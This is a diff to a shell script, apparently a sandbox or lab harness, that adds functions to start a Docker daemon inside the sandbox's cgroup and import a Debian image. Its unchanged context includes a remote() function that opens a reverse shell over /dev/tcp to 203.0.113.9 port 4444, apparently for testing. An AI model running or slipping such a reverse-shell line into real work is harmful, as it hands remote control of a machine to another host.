@@ -34,6 +34,21 @@ remote() {
 	bash -c 'exec 3<>/dev/tcp/203.0.113.9/4444; sh -c "$0; :" <&3 >&3 2>&3; :' "$1"
 }
 
+# A container engine; its containers lie in this sandbox's cgroup.
+engine() {
+	dockerd --data-root /opt/lab/docker --exec-root /run/docker --pidfile /run/docker.pid -H unix:///run/docker.sock --bridge none --iptables=false --ip-forward=false \
+		--exec-opt native.cgroupdriver=cgroupfs --cgroup-parent "/$LAB" > /var/log/docker.log 2>&1 &
+	until docker version > /dev/null 2>&1; do sleep 0.2; done
+}
+
+# Its image debian:12, for an engine that is started later.
+image() {
+	engine
+	docker import /opt/engine/base.tar debian:12
+	kill "$(cat /run/docker.pid)"
+	wait
+}
+
 # Queries of a type: so many, with names so long.
 dns() {
 	python3 -c '
